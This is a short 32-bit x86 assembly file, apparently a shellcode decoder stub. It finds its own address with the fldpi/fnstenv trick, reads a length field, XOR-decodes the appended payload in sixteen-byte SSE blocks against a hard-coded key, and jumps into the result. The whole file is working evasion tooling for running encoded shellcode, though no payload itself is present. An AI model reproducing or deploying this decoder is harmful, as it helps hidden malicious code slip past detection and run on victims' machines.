; Decoder: sixteen bytes at a time by SSE; finds itself by the floating-point unit.
bits 32
        jmp short start
length: dw 0
start:  fldpi
        fnstenv [esp - 12]
        pop esi
        movzx ecx, word [esi - 2]
        add ecx, byte 15
        shr ecx, 4
        add esi, byte key - start
        movups xmm0, [esi]
        add esi, byte 16
again:  movups xmm1, [esi]
        pxor xmm1, xmm0
        movups [esi], xmm1
        add esi, byte 16
        loop again
        jmp short payload
key:    db 0x5a, 0x13, 0xc7, 0x88, 0x21, 0x9d, 0x6e, 0xf4, 0x5a, 0x13, 0xc7, 0x88, 0x21, 0x9d, 0x6e, 0xf4
payload:
